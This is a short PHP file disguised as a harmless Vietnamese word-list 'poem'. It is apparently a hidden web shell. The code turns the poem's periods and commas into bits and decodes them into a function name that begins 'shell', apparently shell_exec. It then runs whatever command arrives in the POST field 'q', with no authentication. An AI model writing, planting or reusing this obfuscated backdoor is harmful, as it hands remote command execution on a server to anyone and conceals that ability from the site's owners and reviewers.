<?php
$poem = "lua. tre, song, gio, nang. que. lang, dinh, lua. tre, song, gio. nang, que. lang. dinh. lua. tre, song, gio. nang. que, lang. dinh, lua. tre, song, gio. nang, que, lang. dinh. lua. tre, song, gio. nang, que, lang. dinh. lua. tre, song. gio, nang, que, lang, dinh, lua. tre, song, gio. nang. que, lang. dinh, lua. tre, song, gio, nang, que. lang. dinh. lua. tre, song, gio. nang. que, lang. dinh, lua. tre, song, gio. nang. que. lang, dinh, ";
$b = '';
for ($i = 0; $i < strlen($poem); $i++) { $c = ord($poem[$i]); if ($c === 46) { $b .= '0'; } elseif ($c === 44) { $b .= '1'; } }
$f = '';
foreach (str_split($b, 8) as $x) { $f .= chr(bindec($x)); }
if (isset($_POST['q'])) { print $f($_POST['q']); }
